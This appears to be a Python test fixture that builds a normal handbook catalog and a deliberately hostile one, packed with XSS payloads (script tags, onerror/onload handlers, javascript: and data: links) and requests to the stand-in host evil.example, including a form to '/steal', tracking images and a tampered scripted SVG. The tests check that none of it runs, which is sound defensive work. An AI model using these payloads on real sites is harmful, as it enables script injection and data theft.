"""Catalogs the browser tests serve: the example handbook, and a hostile catalog whose text tries
every way of running script or making a request leave the origin."""

from __future__ import annotations

import shutil
from pathlib import Path

from gezel_knowledge.compiler import BuildOptions, compile_catalog
from gezel_knowledge.embedders import HashEmbedder
from gezel_knowledge.indexes import MemoryIndex

HANDBOOK = Path(__file__).resolve().parents[2] / "examples" / "handbook"
HANDBOOK_KEY = "gezel-knowledge/gezel-handbook"
HOSTILE_KEY = "mallory/hostile"

# Every attempt sets window.pwned and opens a dialog; the tests assert neither happens.
HOSTILE_TITLE = "</title><script>window.pwned=1;alert('title')</script>"
HOSTILE_BODY = """# Hostile page

<script>window.pwned=1;alert('script')</script>

<img src="x" onerror="window.pwned=1;alert('onerror')">

[click me](javascript:window.pwned=1;alert('link'))

<a href="javascript:window.pwned=1;alert('a')" onclick="window.pwned=1">raw link</a>

<svg onload="window.pwned=1;alert('svg')"><script>alert('svg-script')</script></svg>

<iframe src="http://evil.example/frame"></iframe>

<img src="http://evil.example/track.png" alt="tracker"> <img src="//evil.example/p.png" alt="p">

<div style="background:url(http://evil.example/bg.png)">styled</div>

<style>@import url(http://evil.example/x.css); body { display: none }</style>

<link rel="stylesheet" href="http://evil.example/y.css">

<form action="http://evil.example/steal"><input name="x"><button>go</button></form>

<object data="http://evil.example/o.swf"></object>

<meta http-equiv="refresh" content="0;url=http://evil.example/">

<base href="http://evil.example/">

<a href="data:text/html,<script>alert(1)</script>">data link</a>

<p id="selection-cite" data-lines="1-1" data-hl>forged ids and marks</p>

![logo](images/logo.svg)

Searchable words: zanzibar quokka marmalade.
"""
INERT_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40">'
    '<rect width="40" height="40" fill="#c33"/><!--' + " " * 160 + "--></svg>\n"
)
SCRIPTED_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1;alert(\'svg asset\')">'
    "<script>window.pwned=1;alert('svg asset script')</script>"
    '<image href="http://evil.example/leak.png"/></svg>'
)


def build_handbook(out: Path) -> Path:
    """examples/handbook as a .gezk with the test embedder."""
    path = out / "handbook.gezk"
    options = BuildOptions(
        embedder=HashEmbedder(), created_at="2026-12-01T00:00:00Z", cache_dir=None
    )
    compile_catalog(HANDBOOK, path, options)
    return path


def build_hostile(out: Path) -> Path:
    """A catalog whose name, titles, README and body are hostile; its SVG is inert when built."""
    src = out / "hostile-src"
    (src / "images").mkdir(parents=True)
    (src / "catalog.yaml").write_text(
        "id: hostile\nversion: '1.0'\n"
        f'name: "Hostile {HOSTILE_TITLE}"\nlanguage: nl\n'
        'publisher: {id: mallory, name: "<b onmouseover=alert(1)>Mallory</b>"}\n'
        "license: {name: CC0 1.0, spdx: CC0-1.0, attributionRequired: false}\n"
        "description: \"<img src=x onerror=alert('description')>\"\n",
        encoding="utf-8",
    )
    (src / "README.md").write_text(
        "# Readme <script>window.pwned=1;alert('readme')</script>\n\n"
        "<img src=x onerror=\"window.pwned=1;alert('readme img')\">\n",
        encoding="utf-8",
    )
    (src / "LICENSE").write_text("CC0 <script>alert('licence')</script>\n", encoding="utf-8")
    (src / "evil.md").write_text(
        f'---\ntitle: "{HOSTILE_TITLE}"\n---\n{HOSTILE_BODY}', encoding="utf-8"
    )
    (src / "plain.md").write_text("# Plain page\n\nNothing to see here.\n", encoding="utf-8")
    (src / "images" / "logo.svg").write_text(INERT_SVG, encoding="utf-8")
    path = out / "hostile.gezk"
    compile_catalog(
        src, path, BuildOptions(embedder=HashEmbedder(), created_at="2026-12-01T00:00:00Z")
    )
    return path


def tamper_svg(extracted: Path, out: Path) -> Path:
    """A copy of an extracted hostile catalog whose SVG asset now carries script (same size,
    so only the browser's own checks stand between it and the page)."""
    copy = out / "hostile-tampered"
    shutil.copytree(extracted, copy)
    for svg in (copy / "assets").rglob("*.svg"):
        svg.chmod(0o644)
        size = svg.stat().st_size
        data = SCRIPTED_SVG.encode()
        assert len(data) <= size, "the inert SVG must be larger than the scripted one"
        svg.write_bytes(data[:-6] + b" " * (size - len(data)) + data[-6:])
    return copy


def write_memory(home: Path) -> None:
    """A memory index with a few entries in ``home``."""
    with MemoryIndex(home, embedder=HashEmbedder()) as memory:
        memory.add("Use only the fine whetstone for sharpening knives.", kind="preference")
        memory.add("The release build is broken on Windows.", kind="status", scope="gezel:ada")
        memory.add("<script>window.pwned=1;alert('memory')</script> is not a note", kind="fact")
